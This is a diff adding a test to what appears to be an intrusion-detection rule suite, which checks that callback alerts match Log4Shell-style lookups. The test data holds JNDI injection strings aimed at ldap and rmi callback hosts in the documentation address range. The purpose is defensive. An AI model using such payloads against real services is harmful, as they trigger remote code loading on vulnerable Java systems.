@@ -296,8 +296,25 @@ def stories(lab):
             before = told
 
 
+def stories_of_one_field(lab):
+    """A field that holds several look-ups: whichever host is called back is of its story."""
+    text = b"".join(b"$" + b"{jndi:%s}" % name for name in (
+        b"x", b"ldap://203.0.113.1:1389/a", b"rmi://203.0.113.2/b", b"ldap://203.0.113.2:1389/c"))
+    attempt = flows.exchange(("198.51.100.7", 40000), flows.START_US, agent=text)
+    for host, port, begun in ((1, 1389, True), (2, 1099, True), (2, 1389, True), (2, 1390, False),
+                              (3, 1389, False)):
+        call = flows.Talk(("192.0.2.10", 41000), (f"203.0.113.{host}", port),
+                          flows.START_US + 10150000).open().close()
+        lab.write("g", flows.pcap(attempt.frames + call.frames))
+        events = run(lab, "-r", "g")
+        told = [event["dest_port"] for event in of_type(events, "alert")
+                if event["alert"]["signature_id"] == 9000202]
+        demand(told == [port] * begun, f"{host}:{port}: {told}")
+
+
 TESTS = [
     ("stories", stories),
+    ("stories of one field", stories_of_one_field),
     ("roll-ups of all captures add up", all_captures),
     ("what a roll-up tells", what_is_told),
     ("many clients", clients),
